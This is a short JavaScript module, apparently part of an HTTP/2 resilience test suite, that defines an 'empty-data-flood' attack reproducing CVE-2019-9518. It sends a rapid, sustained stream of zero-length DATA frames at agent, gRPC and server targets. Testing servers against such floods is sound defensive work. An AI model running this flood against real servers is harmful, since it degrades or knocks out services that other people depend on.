import { BOUND_MIB } from "../attack.js";
import { data, repeated } from "../raw/frames.js";
import { linkAttack } from "./link.js";

export const emptyDataFlood = linkAttack({
  name: "empty-data-flood",
  shortPlaces: ["grpc"],
  description: "DATA frames without a byte, which no window holds back (CVE-2019-9518)",
  boundMiB: BOUND_MIB,
  places: ["agents", "grpc", "server"],
  async onLink({ socket, stream }, work) {
    await work.flood(socket, repeated(data(stream, Buffer.alloc(0)), 1000), { times: 1000, perSecond: 500 });
  },
});
